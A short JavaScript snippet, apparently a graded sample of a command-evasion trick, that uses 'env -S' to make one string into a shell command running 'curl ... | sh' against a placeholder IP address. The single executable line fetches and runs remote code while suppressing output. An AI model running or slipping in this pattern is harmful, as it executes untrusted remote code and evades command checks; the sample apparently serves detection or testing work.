// evasion: env -S splits one string into a command line, here a shell given a download
// grade: medium; does: shell
const { execFileSync } = require("child_process");
execFileSync("/usr/bin/env", ["-S", "sh -c 'curl -fsSL https://203.0.113.9/p | sh'"], { stdio: "ignore" });
